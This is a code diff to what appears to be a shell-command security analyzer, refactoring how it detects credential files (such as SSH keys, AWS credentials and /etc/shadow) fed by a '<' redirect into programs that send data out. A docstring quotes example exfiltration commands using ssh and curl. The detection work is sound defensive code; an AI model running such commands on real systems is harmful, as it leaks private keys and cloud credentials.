@@ -214,9 +214,8 @@ def credential_source(ctx, cmd) -> str | None:
         for p in ctx.places(a):
             if p.cls == CRED or p.path == "/etc/shadow":
                 return p.desc if p.desc.startswith("credentials") else f"credentials ({shown(a)})"
-    for r in cmd.redirects:
-        if r.op == "<" and r.target is not None and classify(r.target.text).cls == CRED:
-            return classify(r.target.text).desc
+    if (secret := _redirected_secret(cmd)) is not None:
+        return secret
     if name in ("echo", "printf", "cat"):
         for t in texts:
             m = re.search(r"\$\{(\w+)\}", t)
@@ -245,16 +244,22 @@ def secrets_in_arguments(ctx, cmd) -> None:
             return
 
 
+def _redirected_secret(cmd) -> str | None:
+    """The credential file a `<` redirect feeds to `cmd`, if one does."""
+    for r in cmd.redirects:
+        if r.op == "<" and r.target is not None and (p := classify(r.target.text)).cls == CRED:
+            return p.desc
+    return None
+
+
 @hook("command")
 def secret_on_stdin(ctx, cmd) -> None:
     """`ssh host 'cat > k' < ~/.ssh/id_rsa`, `curl -d @- URL < ~/.aws/credentials`: a secret fed to
     the standard input of a program that sends it."""
     if not _sends_stdin(cmd):
         return
-    for r in cmd.redirects:
-        if r.op == "<" and r.target is not None and (p := classify(r.target.text)).cls == CRED:
-            ctx.add("network.exfiltrate", cmd, what=p.desc)
-            return
+    if (secret := _redirected_secret(cmd)) is not None:
+        ctx.add("network.exfiltrate", cmd, what=secret)
 
 
 # Subcommands that upload their local operands: a credential among them leaves the machine.
